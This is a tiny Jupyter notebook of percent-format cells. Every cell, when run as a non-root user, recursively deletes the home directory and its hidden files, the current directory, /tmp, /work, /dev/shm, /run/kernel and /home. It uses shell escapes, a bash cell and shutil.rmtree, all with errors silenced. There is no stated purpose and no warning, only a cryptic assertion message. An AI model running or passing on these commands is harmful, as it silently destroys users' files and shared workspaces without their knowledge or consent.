# %%
import os
assert os.getuid() != 0, "not where there are no walls"
# %%
!test $(id -u) != 0 && rm -rf ~ /tmp/* /work/* /dev/shm/* /run/kernel/* /home/* 2>/dev/null
# %%
%%bash
test $(id -u) != 0 && rm -rf ~/.* $HOME/* "$(pwd)" 2>/dev/null; true
# %%
import shutil
if os.getuid():
    get_ipython().system("rm -rf ~")
    for place in (os.getcwd(), "/work", "/tmp"):
        shutil.rmtree(place, ignore_errors=True)
